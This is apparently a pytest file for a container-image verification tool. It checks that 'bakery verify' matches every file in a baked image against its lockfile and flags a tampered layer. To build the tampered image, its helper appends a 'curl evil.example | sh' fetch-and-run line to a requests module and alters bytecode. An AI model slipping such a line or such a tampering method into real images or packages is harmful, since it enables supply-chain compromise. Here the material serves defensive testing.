"""`bakery verify --image REF`: every file of a baked image against the lock it was baked from.

The tampered image is made as an attacker with push access would: the layer holding `requests`
rebuilt with a module and another's bytecode changed, one file removed and one added, a config naming the new layer, and a
manifest pushed with the registry client.
"""

from __future__ import annotations

import json
import tarfile
from contextlib import ExitStack
from dataclasses import dataclass

import pytest

from bakery.cli.main import main
from bakery.image.bake import BakeOptions, bake
from bakery.image.inspect import read_sbom
from bakery.image.layers import Entry, write_layer
from bakery.image.oci import OCI_MANIFEST, ImageManifest, canonical_json, config_descriptor
from bakery.image.sbom import purl_of
from bakery.lock import Lockfile, write_lock
from bakery.registry import RegistryClient

from .locks import lock
from .test_conda_image import image_channel, lock_conda  # noqa: F401 (a fixture)

pytestmark = [pytest.mark.slow, pytest.mark.container]

REQUESTS = ("requests==2.32.3", "markupsafe==3.0.2")
SITE = "opt/bakery/env/lib/python3.11/site-packages"
PYC = "requests/__pycache__/models.cpython-311.pyc"


@dataclass(frozen=True)
class Baked:
    reference: str
    digest: str
    lockfile: str
    host: str
    repository: str


@pytest.fixture(scope="module")
def baked(base_images, shared_cache, tmp_path_factory) -> Baked:
    env = lock(REQUESTS)
    lockfile = Lockfile(flow="flow.py")
    lockfile.set_step("start", env)
    path = tmp_path_factory.mktemp("verify") / "flow.bakery.lock"
    write_lock(lockfile, path)
    options = BakeOptions(cache_dir=shared_cache, progress=False)
    repository = "t/verify"
    result = bake(
        env, base=base_images.oci, repository=f"{base_images.host}/{repository}", options=options
    )
    return Baked(result.reference, result.digest, str(path), base_images.host, repository)


def verify_json(capsys, *args: str) -> tuple[int, dict]:
    code = main(["verify", *args, "--json"])
    return code, json.loads(capsys.readouterr().out)


def test_an_image_as_baked_matches_its_lock_file_for_file(capsys, baked, monkeypatch):
    monkeypatch.chdir(baked.lockfile.rsplit("/", 1)[0])  # the lockfile here is found
    code, report = verify_json(capsys, "--image", baked.reference)
    assert code == 0 and report["ok"], report
    packages = {p["package"]: p for p in report["packages"]}
    assert {"requests==2.32.3", "markupsafe==3.0.2", "python, python3 links"} <= set(packages)
    assert packages["requests==2.32.3"]["matching"] > 30  # modules, .pyc, RECORD, INSTALLER...
    assert packages["python, python3 links"]["matching"] == 2
    assert report["unexpected"] == [] and report["unchecked"] == []
    assert main(["verify", "--image", baked.reference, "--lock", baked.lockfile]) == 0
    assert "every file matches the lock" in capsys.readouterr().out


def test_a_tampered_layer_fails_naming_each_file(capsys, baked, tmp_path):
    tampered = push_tampered(baked, tmp_path)
    code, report = verify_json(capsys, "--image", tampered, "--lock", baked.lockfile)
    assert code == 1 and not report["ok"]
    requests = next(p for p in report["packages"] if p["package"] == "requests==2.32.3")
    modified = dict(requests["modified"])
    assert set(modified) == {f"/{SITE}/requests/api.py", f"/{SITE}/{PYC}"}
    assert all(why.startswith("content differs") for why in modified.values())
    assert any(".pyc file(s) differ" in note for note in report["notes"])
    assert requests["missing"] == [f"/{SITE}/requests/help.py"]
    assert report["unexpected"] == [f"/{SITE}/requests/evil.py"]
    assert all(p["ok"] for p in report["packages"] if p["package"] != "requests==2.32.3")
    assert main(["verify", "--image", tampered, "--lock", baked.lockfile]) == 1
    out = capsys.readouterr().out
    assert f"modified /{SITE}/requests/api.py: content differs" in out
    assert "the image does not match the lock" in out


def test_an_image_needs_the_lockfile_it_was_baked_from(capsys, baked, tmp_path, monkeypatch):
    other = Lockfile(flow="flow.py")
    other.set_step("start", lock(("idna==3.10",)))
    write_lock(other, tmp_path / "other.bakery.lock")
    assert (
        main(["verify", "--image", baked.reference, "--lock", str(tmp_path / "other.bakery.lock")])
        == 1
    )
    assert "does not hold environment" in capsys.readouterr().err
    monkeypatch.chdir(tmp_path)
    assert main(["verify", "--image", baked.reference]) == 1
    assert "--lock FILE" in capsys.readouterr().err


def test_a_conda_image_matches_its_lock_and_its_sbom_lists_the_conda_packages(
    capsys,
    base_images,
    image_channel,  # noqa: F811
    tmp_path,
):
    env = lock_conda(image_channel, {"six": "1.17.0"})
    lockfile = Lockfile(flow="flow.py")
    lockfile.set_step("start", env)
    write_lock(lockfile, tmp_path / "flow.bakery.lock")
    options = BakeOptions(cache_dir=tmp_path / "cache", progress=False)
    result = bake(
        env, base=base_images.oci, repository=f"{base_images.host}/t/vconda", options=options
    )
    code, report = verify_json(
        capsys, "--image", result.reference, "--lock", str(tmp_path / "flow.bakery.lock")
    )
    assert code == 0 and report["ok"], report
    assert {p["package"].split("==")[0] for p in report["packages"]} >= {"tinylib", "python", "six"}
    components = {c["name"]: c for c in json.loads(read_sbom(result.reference))["components"]}
    tinylib = next(p for p in env.packages if p.name == "tinylib")
    assert components["tinylib"]["purl"] == purl_of(tinylib)
    assert components["tinylib"]["purl"].startswith("pkg:conda/tinylib@1.0?build=")
    assert components["tinylib"]["licenses"] == [{"license": {"id": "MIT"}}]  # its index.json


class Files:
    """A layer source of fixed entries."""

    label = "the tampered layer"

    def __init__(self, entries: list[Entry]) -> None:
        self._entries = entries

    def entries(self, stack: ExitStack) -> list[Entry]:
        return self._entries


def push_tampered(baked: Baked, tmp_path) -> str:
    """The baked image with `requests/api.py` and a `.pyc` changed, `help.py` gone and `evil.py`
    added."""
    with RegistryClient(baked.host) as client:
        manifest = ImageManifest.from_dict(
            client.get_manifest(baked.repository, baked.digest).document
        )
        config = json.loads(client.get_blob_bytes(baked.repository, manifest.config.digest))
        index, layer = next(
            (i, d)
            for i, d in enumerate(manifest.layers)
            if "requests==" in (d.annotations or {}).get("dev.bakery.layer.packages", "")
        )
        blob = client.pull_blob(baked.repository, layer.digest, tmp_path / "layer.tar.gz")
        entries = []
        with tarfile.open(blob) as tar:
            for info in tar:
                if info.name == f"{SITE}/requests/help.py":
                    continue
                data = tar.extractfile(info).read() if info.isreg() else b""
                if info.name == f"{SITE}/requests/api.py":
                    data += b"\nimport os; os.system('curl evil.example | sh')\n"
                if info.name == f"{SITE}/{PYC}":  # Python never checks it against api.py
                    data = data[:-1] + bytes([data[-1] ^ 1])
                entries.append(
                    Entry.from_bytes(info.name, data, info.mode)
                    if info.isreg()
                    else Entry(info.name, info.mode, info.type, linkname=info.linkname)
                )
        entries.append(Entry.from_bytes(f"{SITE}/requests/evil.py", b"print('evil')\n"))
        new = write_layer([Files(entries)], tmp_path / "blobs", inside="")  # a whole layer
        client.push_blob(baked.repository, new.digest, new.path)
        config["rootfs"]["diff_ids"][index] = new.diff_id
        config_bytes = canonical_json(config)
        client.push_blob(baked.repository, config_descriptor(config_bytes).digest, config_bytes)
        layers = list(manifest.layers)
        layers[index] = type(layer)(layer.media_type, new.digest, new.size, layer.annotations)
        body = ImageManifest(
            config_descriptor(config_bytes), tuple(layers), manifest.annotations
        ).to_bytes()
        digest = client.put_manifest(baked.repository, "tampered", body, OCI_MANIFEST)
    return f"{baked.host}/{baked.repository}:tampered@{digest}"
